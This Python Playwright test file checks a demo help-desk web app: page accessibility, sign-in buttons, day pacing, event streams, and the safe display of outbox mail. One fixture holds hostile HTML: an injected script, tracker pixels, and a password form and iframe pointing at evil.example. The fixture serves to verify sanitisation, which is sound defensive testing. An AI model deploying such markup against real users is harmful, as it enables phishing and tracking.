"""The demo's first five minutes in a real browser."""

from __future__ import annotations

from collections.abc import AsyncIterator
from email.message import EmailMessage

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, Request, Route

from infra.demo.outbox import Outbox
from infra.demo.pace import Pace
from infra.demo.running import Run, opened
from infra.demo.start.writing import bring
from tests.desk.browsing import PATIENCE, faults_of
from tests.desk.demo_screens import PAGES, SIZES
from tests.web.running import until

pytestmark = [pytest.mark.timeout(300), pytest.mark.xdist_group("demo")]
HOSTILE = """<html><head><style>body { background: url(https://tracker.example/css) }</style></head><body>
<p>Good <b>day</b></p><img src="https://tracker.example/pixel.gif"><script>parent.document.title = 'owned'</script>
<form action="https://evil.example"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example"></iframe><a href="https://ours.example/">ours</a></body></html>"""


@pytest_asyncio.fixture(loop_scope="session")
async def demo() -> AsyncIterator[tuple[Run, Outbox]]:
    """A demo in which nobody lives yet; the first mail has been answered by a receipt."""
    async with opened(Pace()) as (run, server):
        to = next(iter(run.documents.projects[0].mailboxes.values())).address
        assert await bring(run.node.smtp_in_port, to, "My meter", "It runs backwards.")
        await until(lambda: server.outbox.count)
        yield run, server.outbox


class Visitor:
    """A browser window with what it asked for and what it complained of."""

    def __init__(self, page: Page) -> None:
        self.page, self.asked, self.complaints = page, list[str](), list[str]()
        page.on("request", self._note)
        page.on("pageerror", lambda fault: self.complaints.append(str(fault)))
        page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)

    def _note(self, request: Request) -> None:
        self.asked.append(request.url)


async def visitor(opened: Browser, **more: object) -> Visitor:
    context = await opened.new_context(**({"locale": "en-GB", "viewport": SIZES["desktop"]} | more))  # type: ignore[arg-type]
    context.set_default_timeout(PATIENCE)
    return Visitor(await context.new_page())


async def test_every_page_is_accessible_fits_a_phone_and_loads_nothing_from_elsewhere(
    demo: tuple[Run, Outbox], chromium: Browser
) -> None:
    run, outbox = demo
    newest = next(outbox.newest()).number
    places = [*PAGES.values(), f"outbox/{newest}", "nowhere"]
    found: dict[str, list[str]] = {}
    for scheme, size, language in (("light", "desktop", "en"), ("dark", "phone", "fr")):
        somebody = await visitor(chromium, color_scheme=scheme, viewport=SIZES[size])
        for place in places:
            joint = "&" if "?" in place else "?"
            await somebody.page.goto(f"{run.start_url}/{place}{joint}lang={language}")
            if place == "events":
                await somebody.page.locator(".tail summary").first.click()
            where = f"{place} {scheme} {size} {language}"
            found[where] = await faults_of(somebody.page)
            width = await somebody.page.evaluate("document.documentElement.scrollWidth")
            if width > SIZES[size]["width"]:
                found[where].append(f"{width} pixels wide")
        assert {url for url in somebody.asked if not url.startswith((run.start_url, "data:"))} == set()
        assert [one for one in somebody.complaints if "404" not in one] == []
        await somebody.page.context.close()
    assert {where: faults for where, faults in found.items() if faults} == {}


async def test_one_click_opens_the_desk_as_whom_one_chose(demo: tuple[Run, Outbox], chromium: Browser) -> None:
    run, _ = demo
    somebody = await visitor(chromium)
    for button, name in (("Agent", "guest"), ("Supervisor", "supervisor")):
        await somebody.page.goto(run.start_url)
        await somebody.page.get_by_role("button", name=button, exact=True).click()
        await somebody.page.wait_for_url(f"{run.node.base_url}/desk/**")
        await somebody.page.get_by_role("button", name=name).wait_for()
    await somebody.page.goto(run.start_url)
    await somebody.page.get_by_text("Look over the shoulder").click()
    await somebody.page.get_by_role("button", name="Camille Roche").click()
    await somebody.page.get_by_role("button", name="camille").wait_for()


async def test_the_day_is_paused_and_hastened_without_leaving_the_page(
    demo: tuple[Run, Outbox], chromium: Browser
) -> None:
    run, _ = demo
    somebody = await visitor(chromium)
    page = somebody.page
    await page.goto(run.start_url)
    await page.get_by_role("button", name="Pause").click()
    await page.get_by_text("· paused").wait_for()
    assert run.day.tempo.paused
    await page.get_by_role("button", name="Faster").click()
    await page.get_by_text("· paused").wait_for(state="hidden")
    assert (run.day.tempo.paused, run.day.tempo.rate) == (False, 2.0)
    for _ in range(2):
        await page.get_by_role("button", name="Faster").click()
    await page.locator("button:disabled", has_text="Faster").wait_for()
    assert somebody.complaints == []


async def test_a_hostile_mail_of_the_outbox_runs_nothing_and_fetches_nothing(
    demo: tuple[Run, Outbox], chromium: Browser
) -> None:
    run, outbox = demo
    mail = EmailMessage()
    mail["Subject"] = "<script>document.title = 'owned'</script>"
    mail["From"] = mail["To"] = "ada@example.org"
    mail.set_content("Good day")
    mail.add_alternative(HOSTILE, subtype="html")
    outbox.put("ada@example.org", bytes(mail))
    somebody, fetched = await visitor(chromium), list[str]()

    async def answer(route: Route) -> None:
        fetched.append(route.request.url)
        await route.abort()

    await somebody.page.context.route("https://*.example/**", answer)
    await somebody.page.goto(f"{run.start_url}/outbox/{outbox.count}")
    frame = somebody.page.frame_locator("iframe.letter")
    await frame.get_by_text("day", exact=True).wait_for()
    await frame.get_by_role("button", name="Go").click()
    assert (await somebody.page.title()).startswith("<script>")
    assert fetched == []
    async with somebody.page.context.expect_page() as opening:
        await frame.get_by_role("link", name="ours").click()
    assert (await opening.value) is not somebody.page


async def test_events_come_in_as_they_happen_are_filtered_held_and_copied_as_curl(
    demo: tuple[Run, Outbox], chromium: Browser
) -> None:
    run, _ = demo
    somebody = await visitor(chromium, permissions=["clipboard-read", "clipboard-write"])
    page = somebody.page
    await page.goto(f"{run.start_url}/events")
    # the page asks anew a moment after the last letter: until then it shows what was asked for before
    async with page.expect_request(lambda one: "kind=agent.signed_in" in one.url and "stream=agent-guest" in one.url):
        await page.get_by_label("Stream begins with").fill("agent-guest")
        await page.get_by_label("Kind begins with").fill("agent.signed_in")
    await page.locator(".tail li").first.wait_for(state="detached")
    log_in = next(one for one in run.log_ins if one.name == "guest")
    headers = {"Authorization": f"Bearer {log_in.token}", "Idempotency-Key": "one"}
    await page.context.request.post(f"{run.node.base_url}/api/agents/guest/sign-in", headers=headers)
    await page.locator(".tail summary", has_text="agent-guest").wait_for()
    assert await page.locator(".tail li").count() == 1
    await page.locator(".tail summary").click()
    await page.get_by_role("button", name="Copy as curl").click()
    await page.get_by_role("button", name="Copied").wait_for()
    assert (await page.evaluate("navigator.clipboard.readText()")).startswith("curl -s -H 'Authorization: Bearer ")
    await page.get_by_role("button", name="Hold").click()
    await page.get_by_text("held: nothing new is shown").wait_for()
    assert somebody.complaints == []
